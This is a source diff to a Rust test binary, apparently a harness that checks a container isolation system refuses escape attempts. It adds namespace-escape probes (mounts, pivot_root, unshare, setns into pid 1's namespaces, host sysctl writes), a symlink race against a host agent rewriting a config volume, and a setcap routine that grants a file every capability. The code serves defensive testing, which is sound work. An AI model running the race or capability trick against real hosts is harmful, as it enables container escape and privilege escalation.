@@ -7,6 +7,17 @@
 //!   Lines are appended to OUT as they happen, so they survive the shim's death.
 //! - `eci-attack syscalls`: tries calls the default seccomp profile must refuse (and a
 //!   few it must allow) and prints `name: ok` or `name: <errno>` per call.
+//! - `eci-attack whoami`: prints `ruid=<r> euid=<e> capeff=<hex>` (run setuid from the host, it shows
+//!   whose privileges a tenant's setuid file grants there).
+//! - `eci-attack race DIR NAME TARGET`: keeps `DIR/NAME` a symlink to `TARGET` and keeps
+//!   adding fresh entries to DIR, so that a host process emptying DIR (the agent
+//!   rewriting a configFile volume) meets `ENOTEMPTY` and then a planted link. Exits 1
+//!   when DIR is no longer the mount it started on (the volume was replaced).
+//! - `eci-attack setcap FILE`: gives FILE every capability, permitted and effective, as
+//!   a revision-2 `security.capability` (what `setcap =ep` writes).
+//! - `eci-attack userns`: container root, in its group's user namespace, tries to leave
+//!   it: mounts, `pivot_root`, new user and mount namespaces, host-wide sysctls, and the
+//!   group's and the host's namespaces by `setns`; prints `name: ok` or `name: <errno>`.
 
 use std::collections::{HashMap, HashSet};
 use std::fs::{File, OpenOptions};
@@ -25,8 +36,20 @@ fn main() {
         }
         Some("syscalls") => syscalls(),
         Some("fds") => fds(),
+        Some("whoami") => {
+            // SAFETY: getuid/geteuid cannot fail and touch no memory.
+            let (r, e) = unsafe { (libc::getuid(), libc::geteuid()) };
+            let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
+            println!(
+                "ruid={r} euid={e} capeff={}",
+                status_field(&status, "CapEff:")
+            );
+        }
+        Some("userns") => userns(),
+        Some("setcap") if args.len() == 2 => setcap(&args[1]),
+        Some("race") if args.len() == 4 => race(&args[1], &args[2], &args[3]),
         _ => {
-            eprintln!("usage: eci-attack watch OUT SECONDS | syscalls | fds");
+            eprintln!("usage: eci-attack watch OUT SECONDS | syscalls | fds | whoami | userns");
             std::process::exit(2);
         }
     }
@@ -239,4 +262,176 @@ fn syscalls() {
         libc::syscall(libc::SYS_pidfd_getfd, -1, 0, 0)
     });
     attempt("getpid", || unsafe { libc::syscall(libc::SYS_getpid) });
+}
+
+/// Writes `value` to a file, reporting the outcome as [`attempt`] does.
+fn write_attempt(name: &str, path: &str, value: &str) {
+    match OpenOptions::new().write(true).open(path) {
+        Ok(mut f) => match f.write_all(value.as_bytes()) {
+            Ok(()) => println!("{name}: ok"),
+            Err(e) => println!("{name}: {}", errno_of(&e)),
+        },
+        Err(e) => println!("{name}: {}", errno_of(&e)),
+    }
+}
+
+fn userns() {
+    let c = |s: &str| std::ffi::CString::new(s).expect("no nul");
+    let (tmpfs, mnt, root, proc_) = (c("tmpfs"), c("/tmp"), c("/"), c("/proc"));
+    // SAFETY (all calls below): the strings outlive each call; the other arguments are
+    // integers or null; a forked child only makes raw calls and `_exit`s.
+    attempt("mount_tmpfs", || unsafe {
+        libc::mount(
+            tmpfs.as_ptr(),
+            mnt.as_ptr(),
+            tmpfs.as_ptr(),
+            0,
+            std::ptr::null(),
+        ) as libc::c_long
+    });
+    attempt("remount_root_rw", || unsafe {
+        libc::mount(
+            std::ptr::null(),
+            root.as_ptr(),
+            std::ptr::null(),
+            libc::MS_REMOUNT | libc::MS_BIND,
+            std::ptr::null(),
+        ) as libc::c_long
+    });
+    attempt("umount_proc", || unsafe {
+        libc::umount2(proc_.as_ptr(), libc::MNT_DETACH) as libc::c_long
+    });
+    attempt("pivot_root", || unsafe {
+        libc::syscall(libc::SYS_pivot_root, root.as_ptr(), root.as_ptr())
+    });
+    attempt("unshare_user", || unsafe {
+        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER)
+    });
+    attempt("unshare_mount", || unsafe {
+        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWNS)
+    });
+    // A user namespace of its own, then a mount in a mount namespace it owns: only
+    // seccomp's clone rules stand here (CLONE_NEWUSER needs CAP_SYS_ADMIN there).
+    attempt("userns_then_mount", || unsafe {
+        let pid = libc::fork();
+        if pid == 0 {
+            let ok = libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) == 0
+                && libc::mount(
+                    tmpfs.as_ptr(),
+                    mnt.as_ptr(),
+                    tmpfs.as_ptr(),
+                    0,
+                    std::ptr::null(),
+                ) == 0;
+            libc::_exit(if ok { 0 } else { 1 });
+        }
+        let mut status = 0;
+        libc::waitpid(pid, &mut status, 0);
+        if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
+            0
+        } else {
+            *libc::__errno_location() = libc::EPERM;
+            -1
+        }
+    });
+    // Host-wide sysctls (not namespaced): harmless values, refused anyway.
+    write_attempt(
+        "sysctl_core_pattern",
+        "/proc/sys/kernel/core_pattern",
+        "core",
+    );
+    write_attempt("sysctl_drop_caches", "/proc/sys/vm/drop_caches", "1");
+    write_attempt("sysctl_file_max", "/proc/sys/fs/file-max", "1000000");
+    // The namespaces it holds: joining its own is a no-op a capable root may try; the
+    // initial ones (through pid 1's links, which name only its own pid namespace) not.
+    for ns in ["mnt", "pid", "user"] {
+        let path = format!("/proc/1/ns/{ns}");
+        attempt(&format!("setns_{ns}"), || match File::open(&path) {
+            // SAFETY: a valid fd and a flags value.
+            Ok(f) => unsafe { libc::setns(f.as_raw_fd(), 0) as libc::c_long },
+            Err(e) => {
+                // SAFETY: errno is thread-local.
+                unsafe { *libc::__errno_location() = e.raw_os_error().unwrap_or(libc::EIO) };
+                -1
+            }
+        });
+    }
+    attempt("chown_to_unmapped", || {
+        // Uid 65536 is outside the range: no host id to store.
+        let p = c("/tmp/unmapped");
+        let _ = File::create("/tmp/unmapped");
+        // SAFETY: a valid path string.
+        unsafe { libc::chown(p.as_ptr(), 65536, 65536) as libc::c_long }
+    });
+    attempt("setuid_unmapped", || unsafe {
+        let pid = libc::fork();
+        if pid == 0 {
+            libc::_exit(if libc::setuid(65536) == 0 { 0 } else { 1 });
+        }
+        let mut status = 0;
+        libc::waitpid(pid, &mut status, 0);
+        if libc::WEXITSTATUS(status) == 0 {
+            0
+        } else {
+            *libc::__errno_location() = libc::EINVAL;
+            -1
+        }
+    });
+    println!("userns-done");
+}
+
+fn race(dir: &str, name: &str, target: &str) {
+    use std::os::unix::fs::MetadataExt;
+    let dev_ino = |p: &str| std::fs::metadata(p).map(|m| (m.dev(), m.ino())).ok();
+    let start = dev_ino(dir);
+    // Many entries make the host's removal slow: a wide window for the threads below.
+    for i in 0..2000 {
+        let _ = File::create(format!("{dir}/p{i}"));
+    }
+    let link = format!("{dir}/{name}");
+    let _ = std::fs::remove_file(&link);
+    let target = target.to_string();
+    // Puts the link back as soon as it is removed.
+    std::thread::spawn(move || {
+        loop {
+            let _ = std::os::unix::fs::symlink(&target, &link);
+        }
+    });
+    // Keeps adding entries the removal has not listed.
+    let d = dir.to_string();
+    std::thread::spawn(move || {
+        let mut i: u64 = 0;
+        loop {
+            i += 1;
+            let _ = File::create(format!("{d}/n{i}"));
+            if i > 64 {
+                let _ = std::fs::remove_file(format!("{d}/n{}", i - 64));
+            }
+        }
+    });
+    println!("racing");
+    loop {
+        std::thread::sleep(Duration::from_millis(100));
+        if dev_ino(dir) != start {
+            println!("volume replaced");
+            std::process::exit(1);
+        }
+    }
+}
+
+fn setcap(file: &str) {
+    // Revision 2 with the effective flag; permitted: all 41 capabilities.
+    let mut v = Vec::with_capacity(20);
+    for w in [0x0200_0001u32, 0xffff_ffff, 0, 0x1ff, 0] {
+        v.extend_from_slice(&w.to_le_bytes());
+    }
+    let path = std::ffi::CString::new(file).expect("no nul");
+    let name = c"security.capability";
+    attempt("setcap", || {
+        // SAFETY: valid strings and a buffer of the given length, all outliving the call.
+        unsafe {
+            libc::setxattr(path.as_ptr(), name.as_ptr(), v.as_ptr().cast(), v.len(), 0)
+                as libc::c_long
+        }
+    });
 }
